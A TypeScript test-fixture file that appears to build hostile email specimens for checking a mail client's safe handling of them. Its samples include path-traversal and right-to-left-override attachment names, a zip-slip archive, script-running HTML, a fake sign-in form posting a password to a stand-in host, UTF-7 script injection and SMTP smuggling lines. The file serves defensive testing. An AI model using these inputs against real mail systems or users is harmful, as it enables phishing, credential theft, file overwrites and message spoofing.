import { zip } from '../mail/documents.ts'
import { base64Lines } from '../mail/mime-encodings.ts'
import { type Specimen, specimen, usual, whole } from './specimen.ts'

const names: readonly string[] = [
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\evil.dll',
  'C:\\boot.ini',
  '/absolute.txt',
  'CON',
  'nul.txt',
  'ends with dots...',
  'ends with space ',
  'Case.txt',
  'case.TXT',
  '.hidden',
  'a:stream.txt',
  'tab\tand\x07bell.txt',
  '=cmd.csv',
  '',
  `${'n'.repeat(300)}.txt`,
  'semi;colon"quote.txt',
  '%2e%2e%2fescaped.txt',
  '~/.ssh/authorized_keys',
  'photo.jpg.exe',
]

const attachment = (name: string, type: string, bytes: Uint8Array, disposition = 'attachment') =>
  [
    `Content-Type: ${type}; name="${name}"`,
    `Content-Disposition: ${disposition}; filename="${name}"`,
    'Content-Transfer-Encoding: base64',
    '',
    base64Lines(bytes),
  ].join('\r\n')

const mixed = (name: string, ...parts: readonly string[]): Specimen =>
  specimen(
    name,
    ['Content-Type: multipart/mixed; boundary="hm"'],
    [...parts.flatMap((part) => ['--hm', part]), '--hm--'],
  )

const text = (value: string) => Buffer.from(value, 'utf8')

/** A TNEF stream with nothing but its signature, a key and a version (MS-OXTNEF 2.1.3). */
const tnef = Buffer.from('789f3e220100019006900800040000000000e7e80001069007000100000001000100', 'hex')

/** Mail that hurts whoever opens, stores or shows it without care. */
export const dangerousContent: readonly Specimen[] = [
  ...names.map((name, index) =>
    mixed(
      `attachment-name-${index + 1}`,
      'Content-Type: text/plain\r\n\r\nMind the name.',
      attachment(name, 'application/octet-stream', text('harmless\n')),
    ),
  ),
  mixed(
    'attachment-names-collide',
    attachment('Case.txt', 'text/plain', text('one')),
    attachment('case.txt', 'text/plain', text('two')),
    attachment('CASE.TXT ', 'text/plain', text('three')),
  ),
  specimen(
    'file-name-in-pieces',
    [
      'Content-Type: application/octet-stream',
      `Content-Disposition: attachment; filename*1="second"; filename*0="first-"; filename*3="fourth"; filename*0*=utf-8''%2e%2e%2f`,
    ],
    ['x'],
  ),
  specimen(
    'file-name-right-to-left',
    [
      'Content-Type: application/octet-stream',
      "Content-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe",
    ],
    ['x'],
  ),
  mixed(
    'winmail-dat',
    'Content-Type: text/plain\r\n\r\nThe rest is in the envelope.',
    attachment('winmail.dat', 'application/ms-tnef', tnef),
  ),
  whole('smime-encrypted', () =>
    [
      ...usual(
        'smime-encrypted',
        'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"',
        'Content-Disposition: attachment; filename="smime.p7m"',
        'Content-Transfer-Encoding: base64',
      ),
      '',
      base64Lines(Buffer.from('3080060a2a864886f70d010703a0800000', 'hex')),
      '',
    ].join('\r\n'),
  ),
  specimen(
    'smime-signed',
    [
      'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="sig"',
    ],
    [
      '--sig',
      'Content-Type: text/plain',
      '',
      'Signed by nobody.',
      '--sig',
      attachment('smime.p7s', 'application/pkcs7-signature', Buffer.from('3080', 'hex')),
      '--sig--',
    ],
  ),
  mixed(
    'rights-protected',
    'Content-Type: text/plain\r\n\r\nThis message is protected. Open it with a program that may.',
    attachment('message.rpmsg', 'application/x-microsoft-rpmsg-message', Buffer.from('76e8045d', 'hex')),
  ),
  specimen(
    'pgp-encrypted',
    ['Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="pgp"'],
    [
      '--pgp',
      'Content-Type: application/pgp-encrypted',
      '',
      'Version: 1',
      '--pgp',
      'Content-Type: application/octet-stream; name="encrypted.asc"',
      '',
      '-----BEGIN PGP MESSAGE-----',
      '',
      'hQEMA0',
      '-----END PGP MESSAGE-----',
      '--pgp--',
    ],
  ),
  specimen(
    'html-that-acts',
    ['Content-Type: text/html; charset=utf-8'],
    [
      '<script>document.title="ran"</script><img src=x onerror="document.title=\'ran\'">',
      '<svg onload="document.title=\'ran\'"></svg><iframe src="javascript:parent.document.title=\'ran\'"></iframe>',
      '<form action="https://oddities.example/steal"><input name="password"><button>Sign in again</button></form>',
      '<img src="https://oddities.example/pixel.gif" width="1" height="1"><link rel="stylesheet" href="https://oddities.example/a.css">',
      '<a href="https://contoso.example.oddities.example/">https://contoso.example/</a><base href="https://oddities.example/"><meta http-equiv="refresh" content="0;url=https://oddities.example/">',
      '<style>@import url(https://oddities.example/b.css); body { background: url(https://oddities.example/c.png) }</style>',
    ],
  ),
  specimen('html-deep', ['Content-Type: text/html'], [`${'<div>'.repeat(20_000)}deep`]),
  mixed(
    'html-and-svg-attached',
    attachment('page.html', 'text/html', text('<script>document.title="ran"</script>')),
    attachment(
      'picture.svg',
      'image/svg+xml',
      text('<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\'ran\'"/>'),
    ),
  ),
  mixed(
    'zip-that-climbs',
    attachment(
      'archive.zip',
      'application/zip',
      zip({ '../../climbed.txt': 'out', '/absolute.txt': 'out', 'ok.txt': 'in' }),
    ),
  ),
  mixed(
    'calendar-odd',
    [
      'Content-Type: text/calendar; method=REQUEST',
      '',
      'BEGIN:VCALENDAR',
      'METHOD:REQUEST',
      'BEGIN:VEVENT',
      'DTSTART:99999999T999999Z',
      'RRULE:FREQ=SECONDLY;COUNT=999999999',
      'SUMMARY:never ends',
      'END:VCALENDAR',
    ].join('\r\n'),
  ),
  specimen(
    'delivery-report-odd',
    ['Content-Type: multipart/report; report-type=delivery-status; boundary="rep"'],
    [
      '--rep',
      'Content-Type: message/delivery-status',
      '',
      'Action: exploded',
      'Final-Recipient: nobody',
      '',
      '',
      '',
      'Status: five',
      '--rep--',
    ],
  ),
  specimen('charset-unknown', ['Content-Type: text/plain; charset=utf-9000'], ['H\xebllo.']),
  specimen(
    'charset-lies',
    ['Content-Type: text/plain; charset=us-ascii', 'Content-Transfer-Encoding: 7bit'],
    ['Gr\xfc\xdfe'],
  ),
  specimen(
    'charset-utf-16-undeclared-order',
    ['Content-Type: text/plain; charset=utf-16', 'Content-Transfer-Encoding: base64'],
    ['SABlAGwAbABv'],
  ),
  specimen(
    'charset-utf-7',
    ['Content-Type: text/html; charset=utf-7'],
    ['+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  ),
  specimen('charset-iso-2022-jp-cut', ['Content-Type: text/plain; charset=iso-2022-jp'], ['\x1b$B%F%9']),
  specimen('charset-with-quotes', ['Content-Type: text/plain; charset="\'utf-8\'; x="'], ['Hello.']),
  specimen(
    'invalid-utf-8',
    ['Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: 8bit'],
    ['\xc0\xaf \xf5\x80\x80\x80 \xed\xa0\xbd\xed\xb0\x80 \xff\xfe'],
  ),
  specimen(
    'smuggling',
    ['Content-Type: text/plain'],
    [
      'first mail',
      '.',
      '\n.\nMAIL FROM:<gremlin@oddities.example>\nRCPT TO:<odette.quirke@contoso.onmicrosoft.com>\nDATA\nSubject: smuggled',
      '',
      'second mail',
    ],
  ),
  specimen('very-long-line', ['Content-Type: text/plain'], ['word '.repeat(60_000)]),
  specimen(
    'looks-like-mbox',
    ['Content-Type: text/plain'],
    [
      '',
      'From gremlin@oddities.example Mon Mar  2 09:30:00 2026',
      'Subject: not a second mail',
      '',
      '>From the first',
      '>>From the second',
    ],
  ),
]
